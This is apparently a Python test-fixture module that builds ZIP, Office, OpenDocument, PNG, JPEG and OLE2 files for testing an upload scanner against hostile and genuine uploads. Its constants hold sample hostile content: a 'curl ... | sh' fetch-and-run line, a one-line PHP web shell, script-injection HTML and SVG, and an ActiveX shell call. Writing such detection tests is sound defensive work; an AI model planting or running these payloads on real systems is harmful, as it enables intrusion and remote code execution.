"""Builders that the hostile and the genuine uploads share: archives, pictures, OLE2 files."""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Iterable, Iterator, Mapping

Case = tuple[str, str, bytes]
Parts = dict[str, bytes]

ODT = b"application/vnd.oasis.opendocument.text"
OPC = "http://schemas.openxmlformats.org"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XML = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

# What a scanner by content knows as programs; none of them runs.
WINDOWS = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0\x4c\x01" + bytes(400)
LINUX = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(400)
SHELL = b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"
PHP = b"<?php system($_GET['c']); ?>"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
SCRIPT = b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc.exe');\n"


def archive(
    parts: Mapping[str, bytes] | Iterable[tuple[str, bytes]],
    *,
    stored: tuple[str, ...] = (),
    method: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """Return a ZIP of these parts, in this order; pairs may name a part twice."""
    pairs = parts.items() if isinstance(parts, Mapping) else parts
    target = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(target, "w") as kept:
        warnings.simplefilter("ignore")  # of a part that comes twice, where that is the case
        for name, content in pairs:
            entry = zipfile.ZipInfo(name, (2026, 3, 2, 9, 30, 0))
            entry.filename = name  # ZipInfo cuts names at NUL
            entry.compress_type = zipfile.ZIP_STORED if name in stored else method
            kept.writestr(entry, content)
    return target.getvalue()


def content_types(overrides: Mapping[str, str], defaults: Mapping[str, str] | None = None) -> bytes:
    """Return a `[Content_Types].xml` with these parts and endings."""
    endings = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
        **(defaults or {}),
    }
    rows = [f'<Default Extension="{end}" ContentType="{kind}"/>' for end, kind in endings.items()]
    rows += [f'<Override PartName="{n}" ContentType="{kind}"/>' for n, kind in overrides.items()]
    opened = f'<Types xmlns="{OPC}/package/2006/content-types">'
    return XML + (opened + "".join(rows) + "</Types>").encode()


def relationships(*targets: tuple[str, str], external: bool = False) -> bytes:
    """Return a part of relationships, each by the last word of its type and its target."""
    mode = ' TargetMode="External"' if external else ""
    rows = [
        f'<Relationship Id="rId{number}" Type="'
        + (kind if ":" in kind else f"{OPC}/officeDocument/2006/relationships/{kind}")
        + f'" Target="{target}"{mode}/>'
        for number, (kind, target) in enumerate(targets, 1)
    ]
    opened = f'<Relationships xmlns="{OPC}/package/2006/relationships">'
    return XML + (opened + "".join(rows) + "</Relationships>").encode()


def word_parts(main: str = WORD_MAIN, *, defaults: Mapping[str, str] | None = None) -> Parts:
    """Return the parts of a small Word document of one paragraph."""
    body = (
        f'<w:document xmlns:w="{OPC}/wordprocessingml/2006/main"><w:body><w:p><w:r>'
        "<w:t>Our plan for the pilot.</w:t></w:r></w:p></w:body></w:document>"
    )
    return {
        "[Content_Types].xml": content_types({"/word/document.xml": main}, defaults),
        "_rels/.rels": relationships(("officeDocument", "word/document.xml")),
        "word/document.xml": XML + body.encode(),
    }


def sheet_parts(main: str = SHEET_MAIN, *, defaults: Mapping[str, str] | None = None) -> Parts:
    """Return the parts of a small workbook of one cell."""
    space = f'xmlns="{OPC}/spreadsheetml/2006/main"'
    linked = f'xmlns:r="{OPC}/officeDocument/2006/relationships"'
    kind = SHEET_MAIN.replace("sheet.main", "worksheet")
    book = f'<workbook {space} {linked}><sheets><sheet name="Costs" sheetId="1" r:id="rId1"/>'
    cells = '<sheetData><row r="1"><c r="A1"><v>4200</v></c></row></sheetData>'
    return {
        "[Content_Types].xml": content_types(
            {"/xl/workbook.xml": main, "/xl/worksheets/sheet1.xml": kind}, defaults
        ),
        "_rels/.rels": relationships(("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": XML + f"{book}</sheets></workbook>".encode(),
        "xl/_rels/workbook.xml.rels": relationships(("worksheet", "worksheets/sheet1.xml")),
        "xl/worksheets/sheet1.xml": XML + f"<worksheet {space}>{cells}</worksheet>".encode(),
    }


def manifest(kind: bytes, entries: Iterable[str] = ("content.xml",), inside: str = "") -> bytes:
    """Return the manifest of an OpenDocument file; `inside` goes into its last entry."""
    rows = "".join(
        f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="text/xml">'
        f"{inside}</manifest:file-entry>"
        for name in entries
    )
    return (
        XML
        + b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
        + b' manifest:version="1.2"><manifest:file-entry manifest:full-path="/"'
        + b' manifest:media-type="'
        + kind
        + b'"/>'
        + rows.encode()
        + b"</manifest:manifest>"
    )


def text_parts(kind: bytes = ODT, body: str = "<text:p>Our plan for the pilot.</text:p>") -> Parts:
    """Return the parts of a small OpenDocument text."""
    names = "urn:oasis:names:tc:opendocument:xmlns"
    content = (
        f'<office:document-content xmlns:office="{names}:office:1.0"'
        f' xmlns:text="{names}:text:1.0" xmlns:script="{names}:script:1.0"'
        ' xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2">'
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )
    return {
        "mimetype": kind,
        "content.xml": XML + content.encode(),
        "META-INF/manifest.xml": manifest(kind),
    }


def word(more: Mapping[str, bytes] | None = None, main: str = WORD_MAIN, **defaults: str) -> bytes:
    """Return a small Word document with more parts, or others of the same names."""
    return archive({**word_parts(main, defaults=defaults), **(more or {})})


def sheet(
    more: Mapping[str, bytes] | None = None, main: str = SHEET_MAIN, **defaults: str
) -> bytes:
    """Return a small workbook with more parts, or others of the same names."""
    return archive({**sheet_parts(main, defaults=defaults), **(more or {})})


def text(more: Mapping[str, bytes] | None = None, kind: bytes = ODT) -> bytes:
    """Return a small OpenDocument text with more parts, or others of the same names.

    Its manifest lists them all, without which LibreOffice takes a file for broken.
    """
    parts = {**text_parts(kind), **(more or {})}
    if not more or "META-INF/manifest.xml" not in more:
        listed = [name for name in parts if name != "mimetype" and "META-INF" not in name]
        parts["META-INF/manifest.xml"] = manifest(kind, listed)
    return archive(parts, stored=("mimetype",))


def chunk(name: bytes, content: bytes) -> bytes:
    """Return one chunk of a PNG."""
    check = zlib.crc32(name + content)
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", check)


def png(
    width: int = 16,
    height: int = 16,
    *,
    rows: bytes | None = None,
    before: bytes = b"",
    after: bytes = b"",
) -> bytes:
    """Return a PNG of 8 bit grey; `before` and `after` are chunks around its pixels."""
    pixels = zlib.compress((b"\0" + bytes(width)) * height if rows is None else rows, 9)
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    body = head + before + chunk(b"IDAT", pixels) + after + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def jpeg(width: int = 32, height: int = 16, **options: object) -> bytes:
    """Return a grey JPEG as Pillow saves it with these options."""
    from PIL import Image  # only some cases need it

    target = io.BytesIO()
    Image.new("L", (width, height), 128).save(target, "JPEG", **options)
    return target.getvalue()


def ole(streams: Mapping[str, bytes]) -> bytes:
    """Return an OLE2 compound file with these streams, as old Office and encryption write it."""
    sectors: list[bytes] = []
    chains: list[int] = []

    def add(content: bytes) -> int:
        first = len(sectors)
        parts = [content[at : at + 512].ljust(512, b"\0") for at in range(0, len(content), 512)]
        sectors.extend(parts)
        chains.extend([*range(first + 1, first + len(parts)), 0xFFFFFFFE])
        return first

    def entry(name: str, kind: int, right: int, child: int, start: int, size: int) -> bytes:
        encoded = name.encode("utf-16-le") + b"\0\0"
        head = encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
        links = struct.pack("<III", 0xFFFFFFFF, right, child)
        return head + links + bytes(36) + struct.pack("<IQ", start, size)

    named = sorted(streams.items(), key=lambda pair: (len(pair[0]), pair[0].upper()))
    directory = entry("Root Entry", 5, 0xFFFFFFFF, 1, 0xFFFFFFFE, 0)
    for number, (name, content) in enumerate(named, 1):
        padded = content.ljust(4096, b"\0")  # shorter ones would need the small sectors
        right = number + 1 if number < len(named) else 0xFFFFFFFF
        directory += entry(name, 2, right, 0xFFFFFFFF, add(padded), len(padded))
    first = add(directory)
    table = len(sectors)
    fat = struct.pack("<128I", *[*chains, 0xFFFFFFFD, *[0xFFFFFFFF] * 127][:128])
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    head += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, 1, first, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    return head + struct.pack("<109I", table, *[0xFFFFFFFF] * 108) + b"".join(sectors) + fat


def under(endings: Iterable[str], what: str, content: bytes) -> Iterator[Case]:
    """Yield the same content under each of these endings."""
    for ending in endings:
        yield f"{what}-named-{ending}", f"plan.{ending}", content
